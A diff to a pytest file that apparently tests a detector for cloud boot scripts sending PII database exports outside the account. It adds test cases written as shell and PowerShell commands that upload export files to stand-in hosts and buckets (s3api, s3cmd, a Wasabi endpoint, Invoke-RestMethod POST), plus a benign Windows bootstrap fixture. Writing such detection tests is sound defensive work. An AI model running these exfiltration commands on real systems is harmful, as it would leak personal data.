@@ -125,8 +125,38 @@ def test_a_boot_script_that_uploads_a_dump_of_the_pii_database_copies_it_outside
         ),
         ("wget --post-file=/var/lib/app/export.csv https://ingest.example.com/up", "ingest.example.com"),
         ("cd /var/lib/app && git push https://github.com/acme/exports.git main", "github.com/acme/exports"),
+        (
+            "aws s3api put-object --bucket partner-drop --key x.csv --body /var/lib/app/x.csv",
+            "s3://partner-drop",
+        ),
+        ("s3cmd put /var/lib/app/x.csv s3://partner-drop/in/", "s3://partner-drop/in/"),
+        (
+            "aws s3 cp /var/lib/app s3://exports --recursive --endpoint-url https://s3.wasabisys.com",
+            "wasabisys",
+        ),
+        (
+            "Invoke-RestMethod -Method Post -InFile C:\\app\\export.csv -Uri https://ingest.example.com/up",
+            "ingest.example.com",
+        ),
+        (
+            "Write-S3Object -BucketName partner-drop -File C:\\app\\export.csv -Region ap-south-1",
+            "partner-drop",
+        ),
     ],
-    ids=["s3 cp", "s3 sync", "curl data", "curl POST", "curl substitution", "wget post", "git push"],
+    ids=[
+        "s3 cp",
+        "s3 sync",
+        "curl data",
+        "curl POST",
+        "curl substitution",
+        "wget post",
+        "git push",
+        "s3api",
+        "s3cmd",
+        "s3-compatible endpoint",
+        "powershell post",
+        "powershell s3",
+    ],
 )
 def test_an_instance_whose_profile_reads_pii_and_whose_script_sends_it_elsewhere_copies_it(
     script: str, shown: str
@@ -196,8 +226,22 @@ runcmd:
 """
 
 
+SSM_AGENT = (
+    "https://s3.amazonaws.com/ec2-downloads-windows/SSMAgent/latest/windows_amd64/AmazonSSMAgentSetup.exe"
+)
+WINDOWS = rf"""<powershell>
+Invoke-WebRequest {SSM_AGENT} -OutFile $env:TEMP\SSMAgent.exe
+Start-Process -FilePath $env:TEMP\SSMAgent.exe -ArgumentList "/S" -Wait
+Read-S3Object -BucketName customer-exports-eu -Key config.json -File C:\app\config.json
+choco install -y postgresql16 --source https://community.chocolatey.org/api/v2/
+</powershell>
+"""
+
+
 @pytest.mark.parametrize(
-    "script", [EKS_AL2, EKS_AL2023, CLOUD_INIT], ids=["eks al2", "eks al2023", "cloud-init"]
+    "script",
+    [EKS_AL2, EKS_AL2023, CLOUD_INIT, WINDOWS],
+    ids=["eks al2", "eks al2023", "cloud-init", "windows"],
 )
 @pytest.mark.parametrize("form", ["userData", "launch template"])
 def test_an_ordinary_bootstrap_script_on_an_instance_that_reads_pii_copies_nothing(
